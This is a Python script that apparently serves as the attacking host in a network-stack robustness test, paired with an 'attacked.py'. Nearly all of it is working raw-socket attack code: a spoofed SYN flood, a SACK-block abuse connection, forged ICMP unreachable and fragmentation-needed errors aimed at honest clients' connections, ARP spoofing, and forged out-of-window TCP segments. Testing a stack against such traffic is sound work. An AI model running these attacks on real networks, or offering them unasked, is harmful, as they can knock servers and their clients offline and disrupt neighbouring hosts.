#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""A hostile host at a fixed rate, for attacked.py. It runs beside the honest client, and forges addresses.

    attack.py KIND DEVICE VICTIM PORT RATE

PORT is that of a server `requests` on VICTIM. RATE is in frames a second. Until SIGINT; then it prints how
many frames it has sent.
"""
import json
import random
import signal
import socket
import struct
import sys
import time

SYN, RST, PSH, ACK = 2, 4, 8, 16
BROADCAST, MINE = b"\xff" * 6, b"\x02\x00\x5e\x66\x66\x01"
MSS = 100
KINDS = {}


def kind(function):
    KINDS[function.__name__] = function
    return function


def checksum(data):
    words = sum(struct.unpack(f"!{len(data) // 2}H", data[:len(data) & ~1]))
    words += data[-1] << 8 if len(data) % 2 else 0
    while words >> 16:
        words = (words & 0xffff) + (words >> 16)
    return ~words & 0xffff


def ipv4(source, to, protocol, payload):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.randrange(65536), 0, 64,
                         protocol, 0, source, to)
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def tcp(source, to, ports, seq, ack, flags, options=b"", payload=b""):
    options += b"\1" * (-len(options) % 4)
    header = struct.pack("!HHIIBBHHH", *ports, seq % 2**32, ack % 2**32, (20 + len(options)) // 4 << 4, flags,
                         65535, 0, 0) + options
    pseudo = source + to + struct.pack("!BBH", 0, 6, len(header) + len(payload))
    total = checksum(pseudo + header + payload)
    return ipv4(source, to, 6, header[:16] + struct.pack("!H", total) + header[18:] + payload)


def arp(operation, mac, sender, target_mac, target):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, mac, sender, target_mac, target)


class Attacker:
    def __init__(self, device, victim, port):
        self.victim, self.port = socket.inet_aton(victim), port
        self.me = self.neighbour(50)
        self.wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.wire.bind((device, 0))
        self.wire.setblocking(False)
        with open(f"/sys/class/net/{device}/address", encoding="ascii") as file:
            self.host_mac = bytes.fromhex(file.read().strip().replace(":", ""))
        self.theirs = None
        while self.theirs is None:
            self.send(arp(1, MINE, self.me, bytes(6), self.victim), 0x0806, to=BROADCAST)
            time.sleep(0.05)
            self.hear()

    def neighbour(self, last):
        return self.victim[:3] + bytes([last])

    def send(self, packet, kind_of=0x0800, mac=MINE, to=None):
        frame = (to or self.theirs) + mac + struct.pack("!H", kind_of) + packet
        try:
            self.wire.send(frame.ljust(60, b"\0"))
        except (BlockingIOError, OSError):
            pass    # the queue is full: less of an attack, on whichever side

    def hear(self):
        """TCP segments for this attacker: (sequence, acknowledgement, flags, length). Answers ARP."""
        segments = []
        while True:
            try:
                frame = self.wire.recv(65536)
            except BlockingIOError:
                return segments
            if frame[12:14] == b"\x08\x06" and frame[28:32] == self.victim:
                self.theirs = frame[22:28]
                if frame[20:22] == b"\0\1" and frame[38:42] == self.me:
                    self.send(arp(2, MINE, self.me, self.theirs, self.victim), 0x0806)
            elif frame[12:14] == b"\x08\0" and frame[23] == 6 and frame[26:34] == self.victim + self.me:
                seq, ack, offset, flags = struct.unpack("!IIBB", frame[38:48])
                end = 14 + struct.unpack("!H", frame[16:18])[0]
                segments.append((seq, ack, flags, end - 34 - (offset >> 4) * 4))

    def honest(self):
        """Address and port of the clients of the victim's server on this host."""
        with open("/proc/net/tcp", encoding="ascii") as file:
            ends = [line.split()[1:4] for line in file.readlines()[1:]]
        return [(int(own.split(":")[0], 16).to_bytes(4, "little"), int(own.split(":")[1], 16))
                for own, peer, state in ends if state == "01" and int(peer.split(":")[1], 16) == self.port]


# Each kind yields whenever it has sent a frame.

@kind
def syns(a):
    """A flood of SYNs from addresses of other networks."""
    while True:
        source = bytes([198, 19, random.randrange(256), random.randrange(1, 255)])
        a.send(tcp(source, a.victim, (random.randrange(1024, 65536), a.port), random.randrange(2**32), 0, SYN,
                   b"\2\4\5\xb4\4\2"))
        yield


@kind
def sack(a):
    """One connection that acknowledges nothing more, and reports blocks here and there."""
    while True:
        ports, mine = (random.randrange(1024, 65536), a.port), random.randrange(2**32)
        a.send(tcp(a.me, a.victim, ports, mine, 0, SYN, b"\2\4" + struct.pack("!H", MSS) + b"\4\2\3\3\7"))
        time.sleep(0.02)
        their = next((seq + 1 for seq, _, flags, _ in a.hear() if flags == SYN | ACK), None)
        if their is None:
            continue
        # A request for 1 MiB; the window opens until some 100 segments are under way.
        request = struct.pack("=QQ", 1, 1 << 20).ljust(64, b"\0")
        a.send(tcp(a.me, a.victim, ports, mine + 1, their, ACK | PSH, payload=request))
        first = end = their
        for _ in range(4):
            time.sleep(0.02)
            first, end = end, max([end, *(seq + length for seq, _, flags, length in a.hear() if length)])
            a.send(tcp(a.me, a.victim, ports, mine + 65, first, ACK))
        began = time.monotonic()
        while time.monotonic() - began < 2:
            blocks = b""
            for _ in range(3):
                left = first + MSS * random.randrange(1, max(2, (end - first) // MSS))
                blocks += struct.pack("!II", left % 2**32, (left + MSS) % 2**32)
            options = b"\1\1\5" + bytes([2 + len(blocks)]) + blocks
            a.send(tcp(a.me, a.victim, ports, mine + 65, first, ACK, options))
            yield
        a.send(tcp(a.me, a.victim, ports, mine + 65, first, RST))


def each_honest(a):
    """An honest connection's address and port, again and again, in turn."""
    while True:
        for end in a.honest() or [(a.neighbour(2), 1024)]:
            for _ in range(200):
                yield end


@kind
def errors(a):
    """ICMP errors of a router, which quote segments to the honest clients that the victim never sent."""
    for address, port in each_honest(a):
        quoted = ipv4(a.victim, address, 6, struct.pack("!HHI", a.port, port, random.randrange(2**32)))
        code = random.choice((0, 1, 3, 4))
        body = struct.pack("!BBHHH", 3, code, 0, 0, 576 if code == 4 else 0) + quoted
        body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
        a.send(ipv4(a.me, a.victim, 1, body))
        yield


@kind
def neighbours(a):
    """Hosts whose hardware addresses change with each of their ARP requests."""
    while True:
        mac = MINE[:5] + bytes([random.randrange(256)])
        a.send(arp(1, mac, a.neighbour(100 + random.randrange(100)), bytes(6), a.victim), 0x0806, mac)
        yield


@kind
def outside(a):
    """Segments of the honest connections, far out of the window."""
    for address, port in each_honest(a):
        a.send(tcp(address, a.victim, (port, a.port), random.randrange(2**32), random.randrange(2**32), ACK,
                   payload=b"x" * 16), mac=a.host_mac)
        yield


def main():
    name, device, victim, port, rate = sys.argv[1:]
    def stop(*_):
        raise KeyboardInterrupt
    signal.signal(signal.SIGTERM, stop)
    attacker, sent = Attacker(device, victim, int(port)), 0
    try:
        print("ready", flush=True)
        began = time.monotonic()
        for sent, _ in enumerate(KINDS[name](attacker), 1):
            ahead = sent / int(rate) - (time.monotonic() - began)
            if ahead > 0.001:
                attacker.hear()
                time.sleep(ahead)
    except KeyboardInterrupt:
        pass
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - began, 3)}))


if __name__ == "__main__":
    main()
